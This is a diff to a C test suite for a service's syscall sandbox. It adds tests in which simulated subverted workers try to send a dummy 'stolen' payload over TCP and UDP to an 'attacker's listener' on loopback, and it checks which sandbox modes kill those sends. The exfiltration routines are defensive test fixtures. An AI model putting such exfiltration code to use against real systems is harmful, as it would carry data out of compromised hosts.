@@ -10,6 +10,9 @@
 #include <sys/socket.h>
 #include <sys/wait.h>
 
+#include <netinet/in.h>
+#include <arpa/inet.h>
+
 #include <fcntl.h>
 #include <pthread.h>
 #include <time.h>
@@ -33,6 +36,25 @@ in_sandbox(int (*fn)(void))
 	if ((pid = fork()) == -1)
 		return -1;
 	if (pid == 0) {
+		if (sandbox_enter() != SANDBOX_ON)
+			_exit(100);
+		_exit(fn());
+	}
+	waitpid(pid, &status, 0);
+	return status;
+}
+
+/* The same behind the filter for a database on a Unix socket. */
+static int
+in_unix_only_sandbox(int (*fn)(void))
+{
+	pid_t	pid;
+	int	status;
+
+	if ((pid = fork()) == -1)
+		return -1;
+	if (pid == 0) {
+		sandbox_unix_only(1);
 		if (sandbox_enter() != SANDBOX_ON)
 			_exit(100);
 		_exit(fn());
@@ -173,6 +195,40 @@ try_raw_inet_socket(void)
 	return 0;
 }
 
+/* The attacker's listener on loopback (TCP and UDP on one port). */
+static struct sockaddr_in	sink;
+
+/* A subverted worker sends what it read to the attacker over TCP. */
+static int
+exfiltrate_tcp(void)
+{
+	int	s;
+
+	if ((s = socket(AF_INET, SOCK_STREAM, 0)) == -1)
+		return 1;
+	if (connect(s, (struct sockaddr *)&sink, sizeof(sink)) == -1)
+		return 2;
+	if (write(s, "stolen", 6) != 6)
+		return 3;
+	close(s);
+	return 0;
+}
+
+/* ...or in a datagram. */
+static int
+exfiltrate_udp(void)
+{
+	int	s;
+
+	if ((s = socket(AF_INET, SOCK_DGRAM, 0)) == -1)
+		return 1;
+	if (sendto(s, "stolen", 6, 0, (struct sockaddr *)&sink,
+	    sizeof(sink)) != 6)
+		return 2;
+	close(s);
+	return 0;
+}
+
 static int
 try_kill_other(void)
 {
@@ -193,6 +249,54 @@ resolver_calls(void)
 		return 2;
 	close(s);
 	return 0;
+}
+
+/*
+ * Issue 19, point 5: what a subverted worker can do on the network.  With
+ * a database reached over TCP the filter must allow IPv4 and IPv6
+ * sockets, so it can connect anywhere and send (the residual that
+ * docs/SECURITY.md states; systemd's IPAddressDeny= is the fence then).
+ * With a database on a Unix socket (sandbox_unix_only) it cannot.
+ */
+static void
+test_network_attacks(void)
+{
+	socklen_t	len = sizeof(sink);
+	char		buf[16];
+	int		l, u, c, status;
+	ssize_t		n;
+
+	memset(&sink, 0, sizeof(sink));
+	sink.sin_family = AF_INET;
+	sink.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	if ((l = socket(AF_INET, SOCK_STREAM, 0)) == -1 ||
+	    bind(l, (struct sockaddr *)&sink, sizeof(sink)) == -1 ||
+	    getsockname(l, (struct sockaddr *)&sink, &len) == -1 ||
+	    listen(l, 4) == -1 ||
+	    (u = socket(AF_INET, SOCK_DGRAM, 0)) == -1 ||
+	    bind(u, (struct sockaddr *)&sink, sizeof(sink)) == -1) {
+		ok(0, "the attacker's listener on loopback");
+		return;
+	}
+	status = in_sandbox(exfiltrate_tcp);
+	c = accept(l, NULL, NULL);
+	n = c == -1 ? -1 : read(c, buf, sizeof(buf));
+	ok(WIFEXITED(status) && WEXITSTATUS(status) == 0 && n == 6,
+	    "with a database over TCP, a worker can still connect out and "
+	    "send (the documented residual; status %d)", status);
+	if (c != -1)
+		close(c);
+	ok(killed_by_sigsys(in_unix_only_sandbox(exfiltrate_tcp)),
+	    "with the database on a Unix socket, a TCP connection out is "
+	    "killed (SIGSYS)");
+	ok(killed_by_sigsys(in_unix_only_sandbox(exfiltrate_udp)),
+	    "...and so is a UDP datagram out");
+	status = in_unix_only_sandbox(serving_calls);
+	ok(WIFEXITED(status) && WEXITSTATUS(status) == 0,
+	    "while what serving needs (a Unix socket, files, memory) still "
+	    "works (status %d)", status);
+	close(l);
+	close(u);
 }
 
 int
@@ -238,5 +342,6 @@ main(void)
 	    "behind the mailer's filter, execve is killed (SIGSYS)");
 	ok(killed_by_sigsys(in_mailer_sandbox(try_write_file)),
 	    "behind the mailer's filter, opening a file for writing is killed");
+	test_network_attacks();
 	return done_testing();
 }
